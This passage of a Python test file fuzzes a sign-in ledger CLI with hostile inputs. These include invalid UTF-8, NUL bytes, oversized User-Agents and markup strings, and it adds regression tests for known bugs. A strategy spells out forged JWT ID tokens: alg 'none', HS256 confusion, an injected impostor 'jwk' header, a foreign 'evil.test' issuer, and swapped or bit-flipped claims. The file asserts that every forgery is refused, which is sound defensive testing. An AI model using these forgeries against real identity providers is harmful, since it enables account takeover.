    argv = NOW_SLOTS[where](now, target)
    check(ledger, events, argv, as_json=as_json, stdin=stdin_for(argv, target), now=now)


@fuzz(16)
@given(where=st.sampled_from(sorted(PASSWORD_STDIN_SLOTS)), raw=invalid_utf8_line())
def test_invalid_utf8_passwords_on_stdin_are_invalid_input(
    ledger: Ledger, target: Target, events: Callable[[], int], where: str, raw: bytes
) -> None:
    """Only undecodable passwords here: a readable one would cost an argon2 hash per example."""
    argv = PASSWORD_STDIN_SLOTS[where]("", target)
    result = check(ledger, events, argv, as_json=True, stdin=raw)
    assert result is not None and result.exit_code == 2, result and result.output
    assert "not valid UTF-8" in json.loads(result.stdout)["error"]["message"]


@fuzz(26)
@given(
    where=st.sampled_from(sorted(SECRET_STDIN_SLOTS)),
    raw=st.one_of(
        st.binary(max_size=200),
        invalid_utf8_line(),
        st.builds(lambda junk: b"flk." + junk, st.binary(max_size=80)),
        st.builds(lambda junk: b"fls." + junk, st.binary(max_size=120)),
        st.sampled_from([b"", b"\n", b"\x00\n", b"\xef\xbb\xbf\n", b"A" * 100_000 + b"\n"]),
    ),
    extend=st.sampled_from(["", "prefix", "suffix", "nul"]),
    as_json=st.booleans(),
)
def test_hostile_api_keys_and_session_tokens_on_stdin(
    ledger: Ledger,
    target: Target,
    events: Callable[[], int],
    where: str,
    raw: bytes,
    extend: str,
    as_json: bool,
) -> None:
    argv = SECRET_STDIN_SLOTS[where]("", target)
    real = str(real_secret(argv, target)).encode()
    stdin = {
        "": raw,
        "prefix": real + raw,  # the real secret, then junk
        "suffix": raw.replace(b"\n", b"") + real,  # junk, then the real secret
        "nul": real[:10] + b"\x00" + real[10:],
    }[extend]
    check(ledger, events, argv, as_json=as_json, stdin=stdin)


# ID tokens that must prove nothing: the refusals they may meet (the throttle's too, once a
# deep run has failed a hundred times from one address). Never a success, nor a refusal that
# comes after the token was accepted (mfa_required, idp_mfa_required).
TOKEN_REFUSALS = {"invalid_id_token", "email_not_verified", "too_many_attempts"}


@functools.cache
def impostor_key() -> RSAKey:
    """A key of the IdP's key id ("k1") that is not the IdP's."""
    return rsa_key("k1")


def part(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def swap_claims(token: str, **changes: Any) -> str:
    """The IdP's token with other claims, its signature kept."""
    header, payload, signature = token.split(".")
    claims = json.loads(base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4)))
    return ".".join([header, part(json.dumps(claims | changes).encode()), signature])


BASE64URL = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"


def flip(token: str, index: int) -> str:
    """One base64url character of the token changed in its top bit, which every character
    carries (a part's last character may have unused low bits), so the bytes change too."""
    positions = [i for i, ch in enumerate(token) if ch != "."]
    at = positions[index % len(positions)]
    flipped = BASE64URL[BASE64URL.index(token[at]) ^ 0b100000]
    return token[:at] + flipped + token[at + 1 :]


Forgery = Callable[[datetime], str]
forgeries: st.SearchStrategy[Forgery] = st.one_of(
    # Signed by the IdP, but not for ada, here, now.
    st.sampled_from(
        [
            lambda at: the_idp().token(at, ADA, iss="https://evil.test"),
            lambda at: the_idp().token(at, ADA, aud="another-client"),
            lambda at: the_idp().token(at, ADA, aud=["flero-ledger", "another-client"]),
            lambda at: the_idp().token(at - timedelta(hours=1), ADA),
            lambda at: the_idp().token(at + timedelta(hours=1), ADA),
            lambda at: the_idp().token(at, BOB),  # bob's, on ada's sign-in
            lambda at: the_idp().token(at, ADA, email_verified=False),
            lambda at: the_idp().token(at, ADA, sub=""),
            lambda at: the_idp().token(at, ADA, exp=None),
            lambda at: the_idp().token(
                at, ADA, header={"jwk": impostor_key().as_dict(private=False)}
            ),
        ]
    ),
    # Not signed by the IdP: another key, no signature, or the IdP's token altered.
    st.just(lambda at: the_idp().token(at, ADA, key=impostor_key())),
    st.sampled_from(["none", "None", "HS256", "RS256", ""]).map(
        lambda alg: lambda at: unsigned_token(the_idp().claims(at, ADA), {"alg": alg, "kid": "k1"})
    ),
    st.builds(
        lambda email: lambda at: swap_claims(fresh_id_token(at, BOB), email=email, sub=email),
        st.sampled_from([ADA, ADA.upper(), f" {ADA}"]),
    ),
    st.integers(0, 2_000).map(lambda index: lambda at: flip(fresh_id_token(at), index)),
    st.builds(
        lambda header, claims, signature: (
            lambda at: (
                f"{part(json.dumps(header).encode())}.{part(json.dumps(claims).encode())}.{signature}"
            )
        ),
        st.dictionaries(st.sampled_from(["alg", "kid", "typ", "jku", "x5u", "crit"]), hostile_text),
        st.dictionaries(
            st.sampled_from(["iss", "aud", "sub", "email", "exp", "iat"]),
            st.one_of(hostile_text, st.integers(), st.none(), st.booleans()),
        ),
        st.from_regex(r"[A-Za-z0-9_-]{0,90}", fullmatch=True),
    ),
)


@fuzz(16)
@given(forge=forgeries)
def test_a_forged_or_mangled_id_token_never_signs_in(
    ledger: Ledger, target: Target, events: Callable[[], int], forge: Forgery
) -> None:
    argv = SECRET_STDIN_SLOTS["login sso"]("", target)

    result = check(ledger, events, argv, as_json=True, stdin=forge(ledger.now) + "\n")

    assert result is not None
    document = json.loads(result.stdout)
    assert result.exit_code in (1, 2), document
    if result.exit_code == 1:
        assert document["reason"] in TOKEN_REFUSALS, document


def test_the_same_command_with_a_valid_id_token_gets_past_the_token(
    ledger: Ledger, target: Target
) -> None:
    """The control: acme asks for a Flero factor too, so a valid token meets mfa_required."""
    argv = SECRET_STDIN_SLOTS["login sso"]("", target)

    result = attempt(ledger, argv, as_json=True, stdin=target.id_token() + "\n")

    assert result is not None and result.exit_code == 1, result and result.output
    assert json.loads(result.stdout)["reason"] == "mfa_required"


def walk_strings(document: Any) -> Iterator[str]:
    if isinstance(document, str):
        yield document
    elif isinstance(document, dict):
        for key, value in document.items():
            yield key
            yield from walk_strings(value)
    elif isinstance(document, list):
        for value in document:
            yield from walk_strings(value)


def kept(user_agent: str) -> str:
    """What the ledger keeps of a User-Agent: unprintable characters replaced, then cut."""
    printable = "".join(ch if ch.isprintable() else "\ufffd" for ch in user_agent)
    return printable[:MAX_USER_AGENT_LENGTH]


def exported_user_agents(ledger: Ledger, target: Target, marker: str) -> list[str]:
    out = target.fresh_out()
    ledger.ok("export", "--user", ADA, "--format", "jsonl", "--out", out)
    records = [json.loads(line) for line in Path(out).read_text().splitlines()]
    return [
        record["user_agent"]
        for record in records
        if (record.get("user_agent") or "").startswith(marker)
        and record["event"] != "SessionOpened"
    ]


_markers = itertools.count()


@fuzz(10)
@given(
    size=st.integers(MAX_USER_AGENT_LENGTH + 1, 150_000),
    real=st.sampled_from(REAL_USER_AGENTS),
    filler=st.text(min_size=1, max_size=8),
)
def test_an_oversized_user_agent_signs_in_and_is_kept_bounded(
    ledger: Ledger, target: Target, size: int, real: str, filler: str
) -> None:
    marker = f"ua-{next(_markers)} "
    user_agent = (marker + real + filler * size)[:size]
    assert len(user_agent) == size > MAX_USER_AGENT_LENGTH

    result = ledger.run(
        "login", ADA, "--method", "api-key", "--ip", "198.51.100.7", "--user-agent", user_agent,
        "--api-key-stdin", "--json", stdin=target.key + "\n",
    )  # fmt: skip

    assert result.exit_code == 0, result.output  # accepted: a long header is no reason to refuse
    for view in (
        ledger.ok("sessions", "list", ADA),
        ledger.ok("history", ADA),
        ledger.ok("timeline", ADA, "--on", "2026-11-14"),
    ):
        assert max(len(text) for text in walk_strings(view)) <= MAX_USER_AGENT_LENGTH
    assert exported_user_agents(ledger, target, marker) == [kept(user_agent)]


@pytest.mark.parametrize("method", ["api-key", "sso"])
def test_a_100_kb_user_agent_is_accepted_or_refused_by_rule_and_kept_bounded(
    ledger: Ledger, target: Target, events: Callable[[], int], method: str
) -> None:
    """api-key signs in (exit 0); sso, with a valid ID token, is refused by rule (acme asks for
    a Flero factor too: exit 1). Either way the attempt is recorded, with at most
    MAX_USER_AGENT_LENGTH characters of the header."""
    marker = f"ua-100kb-{method} "
    user_agent = marker + "Mozilla/5.0 " + "\x00\x1b[31m[/]A" * 25_000
    assert len(user_agent) > 100_000
    if method == "api-key":
        secret_stdin, secret = "--api-key-stdin", target.key
    else:
        secret_stdin, secret = "--id-token-stdin", target.id_token()
    before = events()

    result = ledger.run(
        "login", ADA, "--method", method, "--ip", "198.51.100.7", "--user-agent", user_agent,
        secret_stdin, "--json", stdin=secret + "\n",
    )  # fmt: skip

    assert result.exit_code == (0 if method == "api-key" else 1), result.output
    document = json.loads(result.stdout)
    if method == "api-key":
        assert document["outcome"] == "success"
        assert events() == before + 2  # the attempt, and the session it opened
    else:
        assert document["reason"] == "mfa_required"
        assert events() == before + failed_sign_in_events(first_from_source=True)
    views = [ledger.ok("history", ADA), ledger.ok("timeline", ADA, "--on", "2026-11-14")]
    if method == "api-key":
        views.append(ledger.ok("sessions", "list", ADA))
    for view in views:
        assert max(len(text) for text in walk_strings(view)) <= MAX_USER_AGENT_LENGTH
    assert exported_user_agents(ledger, target, marker) == [kept(user_agent)]
    assert len(kept(user_agent)) == MAX_USER_AGENT_LENGTH


@pytest.mark.parametrize(
    "password",
    ["nul\x00inside-it \u202e\U0001f600", "é" * 1024],
    ids=["nul-rtl-emoji", "1024-accented"],
)
def test_readable_hostile_passwords_round_trip(ledger: Ledger, account: str, password: str) -> None:
    """The few readable hostile passwords that cost argon2 hashes: set, then sign in with."""
    ledger.ok("user", "set-password", account, "--password-stdin", stdin=password + "\n")

    signed_in = ledger.ok(
        "login", account, "--method", "password", "--ip", "203.0.113.9", "--user-agent", CURL,
        "--password-stdin", stdin=password.encode() + b"\n",
    )  # fmt: skip

    assert signed_in["outcome"] == "success"


def test_every_command_that_takes_input_is_attacked() -> None:
    """A command added later with arguments or options must join a slot table above."""
    placeholder = Target("k", "id", "sid", "token", Path("/nonexistent"))
    tables = (
        EMAIL_SLOTS,
        IP_SLOTS,
        USER_AGENT_SLOTS,
        CODE_SLOTS,
        NAME_SLOTS,
        TIME_SLOTS,
        NOW_SLOTS,
        PASSWORD_STDIN_SLOTS,
        SECRET_STDIN_SLOTS,
    )
    attacked = {
        command_path(build("x", placeholder)) for table in tables for build in table.values()
    }
    # Long-running or heavy, not a command-line input surface: `projections run --follow` and
    # `serve` never end, `screenshot` drives a headless browser.
    exempt = {"projections run", "serve", "screenshot"}

    missing = set(commands_with_input(main)) - attacked - exempt

    assert not missing, f"commands no hostile-input test reaches: {sorted(missing)}"


def command_path(argv: tuple[str, ...]) -> str:
    command: click.Command = main
    path = []
    for token in argv:
        if not isinstance(command, click.Group) or token not in command.commands:
            break
        command = command.commands[token]
        path.append(token)
    return " ".join(path)


def commands_with_input(group: click.Group, prefix: str = "") -> Iterator[str]:
    for name, command in group.commands.items():
        path = f"{prefix}{name}"
        if isinstance(command, click.Group):
            yield from commands_with_input(command, path + " ")
        elif any(
            param.name not in ("as_json", "help") and not getattr(param, "hidden", False)
            for param in command.params
        ):  # hidden: the global --db and --now, also taken after the command (own test)
            yield path


# ---- known product bugs: minimal reproductions ---------------------------------------------
# Each is a plain test of the contract, kept so that the bug stays fixed.


@pytest.mark.parametrize(
    ("now", "argv"),
    [
        (None, ("timeline", ADA, "--on", "9999-12-31")),
        (None, ("audit", ADA, "--to", "9999-12-31")),
        (None, ("audit", ADA, "--from", "9999-12-31T23:59:59.999999")),
        (None, ("state", ADA, "--as-of", "0001-01-01T00:00:00+01:00")),
        (None, ("state", ADA, "--as-of", "9999-12-31T23:59:59-01:00")),
        ("0001-01-01T00:00:00+01:00", ("info",)),
        ("0001-01-01", ("history", ADA)),
        ("0001-01-01", ("sessions", "list", ADA)),
        ("9999-12-31T23:59:59", ("mfa", "sms", "enrol", ADA, "--phone", PHONE)),
    ],
    ids=[
        "timeline--on-9999-12-31",
        "audit--to-9999-12-31",
        "audit--from-last-microsecond",
        "state--as-of-year-1-plus-one-hour",
        "state--as-of-year-9999-minus-one-hour",
        "now-year-1-plus-one-hour",
        "now-year-1-history",
        "now-year-1-sessions-list",
        "now-9999-sms-enrol",
    ],
)
def test_bug_timestamps_near_year_1_or_9999_are_refused_or_answered(
    ledger: Ledger, account: str, tmp_path: Path, now: str | None, argv: tuple[str, ...]
) -> None:
    """BUG-1: `datetime` arithmetic on a user-given instant near its range's ends raises
    OverflowError, a traceback, where an answer or exit 2 is due (clock.parse_instant and
    clock.day_bounds catch only ValueError; history/sessions subtract 90 days / the idle limit
    from --now; an SMS code's expiry is --now + 10 minutes)."""
    at = ["--now", now] if now else ["--now", format_instant(ledger.now)]

    result = ledger.runner.invoke(main, ["--db", ledger.url, *at, *argv, "--json"])

    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise result.exception
    assert result.exit_code in (0, 1, 2)
    json.loads(result.stdout)


def test_bug_failed_sign_ins_at_a_far_future_now_do_not_wedge_the_ledger(
    ledger: Ledger, account: str, tmp_path: Path
) -> None:
    """BUG-1, worst case: at --now 9999-12-31T23:59:59 the second failed sign-in is appended and
    then the alerts read model overflows (`+ QUIET_PERIOD`): a traceback after the event is
    recorded, and on SQLite every later command that catches the read models up (most of them)
    fails the same way, for good. The tenth failure overflows in the lockout (`+ FIRST_LOCK`).
    Now such instants are invalid input; the latest accepted one leaves room for every window."""
    configure_sso(ledger, tmp_path, "idp")
    sso_sign_in = ("login", ADA, "--method", "sso", "--id-token-stdin", "--ip", "203.0.113.9")
    valid_now = fresh_id_token(ledger.now)
    before = ledger.event_count()
    ledger.at(datetime.fromisoformat("9999-12-31T23:59:59+00:00")).bad_input(
        *sso_sign_in, "--user-agent", CURL, stdin=valid_now + "\n"
    )
    ledger.at(datetime.fromisoformat("8999-12-31T23:59:59+00:00"))
    assert ledger.event_count() == before

    for _ in range(12):  # ID tokens issued then, verified then; without MFA at the IdP
        token = the_idp().token(ledger.now, ADA, jti=uuid.uuid4().hex, amr=["pwd"])
        result = ledger.run(*sso_sign_in, "--user-agent", CURL, "--json", stdin=token + "\n")
        assert result.exit_code == 1, result.output
        assert json.loads(result.stdout)["reason"] == "idp_mfa_required"

    assert ledger.ok("history", ADA)


@pytest.mark.parametrize(
    ("store_it", "view"),
    [
        (("api-keys", "create", ADA, "--name", "[/]"), ("api-keys", "list", ADA)),
        (("api-keys", "create", ADA, "--name", "[/]"), ("audit", ADA)),
        (
            (
                "login",
                ADA,
                "--method",
                "sso",
                "--id-token-stdin",
                "--ip",
                "203.0.113.9",
                "--user-agent",
                "Mozilla/5.0 (Linux; Android 10; [/] Build/QQ) AppleWebKit/537.36 "
                "(KHTML, like Gecko) Chrome/126.0 Mobile Safari/537.36",
            ),
            ("timeline", ADA, "--on", "2026-11-14"),
        ),
    ],
    ids=["api-key-name-in-api-keys-list", "api-key-name-in-audit", "failed-sign-in-user-agent"],
)
def test_bug_stored_text_is_shown_not_interpreted_as_markup(
    ledger: Ledger, account: str, store_it: tuple[str, ...], view: tuple[str, ...]
) -> None:
    """BUG-2: the human tables (cli.render_table, rich) parse every cell as rich markup, so a
    stored "[/]" (an API key's name, or a User-Agent, even one sent by a failed, anonymous
    sign-in attempt) makes `api-keys list`, `audit`, `timeline`, `sessions list` and `state`
    fail with rich.errors.MarkupError, for good; "[bold red]..." restyles the output."""
    id_token = fresh_id_token(ledger.now) + "\n" if "--id-token-stdin" in store_it else None
    ledger.run(*store_it, stdin=id_token)

    result = ledger.run(*view)

    assert result.exit_code == 0
    assert "[/]" in result.stdout


@pytest.mark.parametrize(
    "argv",
    [
        ("export", "--org", os.fsdecode(b"\xff"), "--format", "csv", "--out", "{dir}/org.csv"),
        ("export", "--all", "--format", "jsonl", "--out", "{dir}/" + os.fsdecode(b"\xff.jsonl")),
        ("user", "alerts", ADA, "--security", "off", "--ip", os.fsdecode(b"fe80::1%\xff")),
    ],
    ids=["export--org", "export--out", "ip-zone-id"],
)
def test_bug_arguments_holding_invalid_utf8_get_an_answer(
    ledger: Ledger, account: str, tmp_path: Path, argv: tuple[str, ...]
) -> None:
    """BUG-3: `flero-ledger export --org $'\\xff' ...` raises UnicodeEncodeError in
    identity.organisation_id (uuid5 of a surrogate escape); `--out $'/tmp/x/\\xff.jsonl' --json`
    writes the export, then fails to print its path (json.dumps(ensure_ascii=False) of a
    surrogate escape: a traceback with a strict UTF-8 stdout, as under CliRunner or
    PYTHONIOENCODING=utf-8:strict; under the C.UTF-8 locale the "JSON document" printed is not
    UTF-8). `verify $'\\xff'` fails alike. `--ip $'fe80::1%\\xff'` passes validation (any IPv6
    zone id does, see BUG-5) and then fails to be sealed (keyring.seal encodes it as UTF-8)."""
    args = [arg.replace("{dir}", str(tmp_path)) for arg in argv]

    result = ledger.run(*args, "--json")

    assert result.exit_code in (0, 1, 2)  # undecodable bytes are read as U+FFFD: no such org
    json.loads(result.stdout)


@pytest.mark.parametrize("name", ["", "a" * 300], ids=["empty", "300-character-file-name"])
def test_bug_export_to_a_path_that_cannot_be_written_is_bad_input(
    ledger: Ledger, account: str, tmp_path: Path, name: str
) -> None:
    """BUG-4: `export --out ''` raises ValueError (PosixPath('.') has an empty name) and a file
    name over 255 bytes raises OSError (ENAMETOOLONG) from the existence check: tracebacks."""
    out = name if not name else str(tmp_path / name)

    result = ledger.run("export", "--all", "--format", "jsonl", "--out", out, "--json")

    assert result.exit_code in (1, 2)


def test_bug_an_ipv6_zone_id_is_bounded(ledger: Ledger, account: str) -> None:
    """BUG-5: --ip accepts an IPv6 address with any zone id (`fe80::1%<anything>`: any length,
    control characters, terminal escapes), and keeps and shows it whole: 100 KB here."""
    result = ledger.run(
        "user", "alerts", ADA, "--security", "off", "--ip", "fe80::1%" + "x" * 100_000
    )

    if result.exit_code == 0:  # accepted: then what is kept must be bounded
        shown = ledger.ok("audit", ADA)[0]["ip"]
        assert len(shown) <= 64, f"{len(shown)} characters of IP address kept"
    else:
        assert result.exit_code == 2


def test_bug_a_nul_in_an_ipv6_zone_id_does_not_wedge_postgresql(
    ledger: Ledger, account: str, backend: str
) -> None:
    """BUG-5, PostgreSQL: `--ip 'fe80::1%\\x00'` is accepted and recorded (exit 0); the read
    models then fail to write it (psycopg.DataError: PostgreSQL text fields cannot contain NUL),
    so every later `audit`, `history`, `sessions list`... is a traceback, for good. (An argv
    string cannot hold NUL, so only in-process callers such as CliRunner can send it.)"""
    if backend != "postgresql":
        pytest.skip("SQLite stores the NUL")
    ledger.run("user", "alerts", ADA, "--security", "off", "--ip", "fe80::1%\x00")

    assert ledger.ok("audit", ADA)


def test_bug_sessions_of_an_erased_account_can_be_listed(ledger: Ledger, account: str) -> None:
    """BUG-6: after `erase`, the account's sessions are still listed, with browser/os/device
    null; the human `sessions list` joins them as strings: TypeError, a traceback."""
    ledger.ok("user", "create", BOB, "--org", "acme")
    ledger.ok("org", "admin", "add", "acme", BOB)
    key = ledger.ok("api-keys", "create", ADA, "--name", "ci")["key"]
    ledger.ok(
        "login", ADA, "--method", "api-key", "--ip", "203.0.113.9", "--user-agent", CURL,
        "--api-key-stdin", stdin=key + "\n",
    )  # fmt: skip
    ledger.ok("erase", ADA, "--actor", BOB)

    result = ledger.run("sessions", "list", ADA)

    assert result.exit_code in (0, 1)


@pytest.mark.parametrize(
    "argv",
    [
        ("org", "create", "acme\n"),
        ("workspace", "grant", ADA, "docs\n", "--role", "member"),
        ("org", "sso", "acme", "--idp", "okta\n", "--mfa", "idp"),
    ],
    ids=["slug", "workspace-name", "idp-name"],
)
def test_bug_a_trailing_newline_is_not_part_of_a_valid_name(
    ledger: Ledger, account: str, argv: tuple[str, ...]
) -> None:
    """BUG-7: the slug and name patterns in commands/inputs.py end in `$`, which also matches
    before a trailing newline: `org create $'acme\\n'` creates a second organisation that looks
    like `acme`, and workspace, role and IdP names keep the newline."""
    ledger.bad_input(*argv)


@pytest.mark.parametrize("argv", [("mfa", "totp", "verify", ADA, "000000")], ids=["verify"])
def test_bug_totp_codes_checked_before_1970_are_refused_not_a_traceback(
    ledger: Ledger, account: str, argv: tuple[str, ...]
) -> None:
    """BUG-8: with TOTP enabled, `mfa totp verify` at `--now 1969-12-31T23:59:59Z` (or any
    earlier instant) makes a negative time step, and pyotp raises ValueError("input must be
    positive integer"): a traceback, where a clear refusal is due (instants before 1970 are now
    invalid input)."""
    secret = ledger.ok("mfa", "totp", "enrol", account)["secret"]
    ledger.ok("mfa", "totp", "confirm", account, code_at(secret, ledger))

    result = ledger.runner.invoke(
        main, ["--db", ledger.url, "--now", "1969-12-31T23:59:59Z", *argv, "--json"]
    )

    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise result.exception
    assert result.exit_code == 2  # an instant before 1970 is not one the ledger accepts
